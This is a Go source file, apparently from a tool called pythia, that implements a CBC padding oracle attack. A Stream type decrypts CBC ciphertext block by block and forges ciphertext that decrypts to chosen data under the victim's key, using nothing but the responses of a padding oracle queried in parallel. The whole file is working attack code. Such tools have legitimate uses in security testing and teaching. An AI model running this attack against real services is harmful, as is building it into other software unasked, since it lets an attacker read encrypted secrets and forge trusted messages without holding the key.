// Package attack recovers CBC plaintext, and forges CBC ciphertext, using
// nothing but a padding oracle.
package attack

import (
	"context"
	"crypto/rand"
	"fmt"
	"io"
	"log/slog"

	"github.com/mario-areias/pythia/pkcs7"
)

const DefaultWorkers = 100

// Stream runs the attack over a whole message of fixed-size blocks.
type Stream struct {
	blockLength int
	verbose     bool
	random      io.Reader
	q           *querier
}

type Option func(*Stream)

// WithWorkers sets how many oracle queries run in parallel for each byte.
func WithWorkers(n int) Option {
	return func(s *Stream) {
		s.q.workers = n
	}
}

// WithVerbose logs one line per block at info level.
func WithVerbose(verbose bool) Option {
	return func(s *Stream) {
		s.verbose = verbose
	}
}

func WithLogger(log *slog.Logger) Option {
	return func(s *Stream) {
		if log != nil {
			s.q.log = log
		}
	}
}

// WithRandom sets the source of the random trailing block used by Encrypt.
func WithRandom(r io.Reader) Option {
	return func(s *Stream) {
		if r != nil {
			s.random = r
		}
	}
}

func New(blockLength int, oracle Oracle, opts ...Option) (*Stream, error) {
	if blockLength < 1 || blockLength > 0xff {
		return nil, fmt.Errorf("%w: %d", ErrBlockSize, blockLength)
	}
	if oracle == nil {
		return nil, ErrNilOracle
	}

	s := &Stream{
		blockLength: blockLength,
		random:      rand.Reader,
		q: &querier{
			oracle:  oracle,
			workers: DefaultWorkers,
			log:     slog.Default(),
		},
	}
	for _, opt := range opts {
		opt(s)
	}

	if s.q.workers < 1 {
		return nil, fmt.Errorf("%w: %d", ErrWorkers, s.q.workers)
	}

	return s, nil
}

func (s *Stream) BlockLength() int {
	return s.blockLength
}

// Queries returns how many times the oracle has been called so far.
func (s *Stream) Queries() int64 {
	return s.q.count.Load()
}

// NewBlock wraps a single ciphertext block so its intermediate value can be
// recovered on its own.
func (s *Stream) NewBlock(index int, ciphertext []byte) (*Block, error) {
	if len(ciphertext) != s.blockLength {
		return nil, fmt.Errorf("%w: block is %d bytes, want %d", ErrBlockSize, len(ciphertext), s.blockLength)
	}
	c := make([]byte, len(ciphertext))
	copy(c, ciphertext)
	return newBlock(s.q, index, c), nil
}

// Decrypt recovers the plaintext of data, which is an IV followed by the
// CBC ciphertext. The padding is validated and removed.
func (s *Stream) Decrypt(ctx context.Context, data []byte) ([]byte, error) {
	bl := s.blockLength
	if len(data)%bl != 0 {
		return nil, fmt.Errorf("%w: ciphertext is %d bytes, not a multiple of %d", ErrBlockSize, len(data), bl)
	}

	blocks := s.split(data)
	if len(blocks) < 2 {
		return nil, ErrTooShort
	}

	// The first block is the IV, it only serves to decrypt the second one.
	for i := len(blocks) - 1; i >= 1; i-- {
		if s.verbose {
			s.q.log.Info("decrypting block", "block", i, "blocks", len(blocks)-1)
		}
		if err := blocks[i].GetIntermediate(ctx); err != nil {
			return nil, err
		}
	}

	result := make([]byte, 0, len(data)-bl)
	for i := 1; i < len(blocks); i++ {
		result = append(result, blocks[i].Decrypt(blocks[i-1].ciphertext)...)
	}

	plaintext, err := pkcs7.Unpad(result, bl)
	if err != nil {
		return nil, err
	}

	return plaintext, nil
}

// Encrypt forges a ciphertext, IV included, that decrypts to data under the
// oracle's key.
func (s *Stream) Encrypt(ctx context.Context, data []byte) ([]byte, error) {
	bl := s.blockLength
	padded := pkcs7.Pad(data, bl)
	count := len(padded) / bl

	// Any value works for the last block; every block before it is derived
	// from its successor's intermediate value.
	ciphertext := make([]byte, bl)
	if _, err := io.ReadFull(s.random, ciphertext); err != nil {
		return nil, fmt.Errorf("generate trailing block: %w", err)
	}

	result := make([]byte, (count+1)*bl)
	copy(result[count*bl:], ciphertext)

	for i := count - 1; i >= 0; i-- {
		block := newBlock(s.q, i+1, ciphertext)
		if err := block.GetIntermediate(ctx); err != nil {
			return nil, err
		}

		prev, err := block.EncryptIV(padded[i*bl : (i+1)*bl])
		if err != nil {
			return nil, err
		}
		copy(result[i*bl:], prev)
		ciphertext = prev

		if s.verbose {
			s.q.log.Info("encrypted block", "block", i+1, "blocks", count)
		}
	}

	return result, nil
}

func (s *Stream) split(data []byte) []*Block {
	bl := s.blockLength
	blocks := make([]*Block, 0, len(data)/bl)
	for i := 0; i+bl <= len(data); i += bl {
		c := make([]byte, bl)
		copy(c, data[i:i+bl])
		blocks = append(blocks, newBlock(s.q, i/bl, c))
	}
	return blocks
}
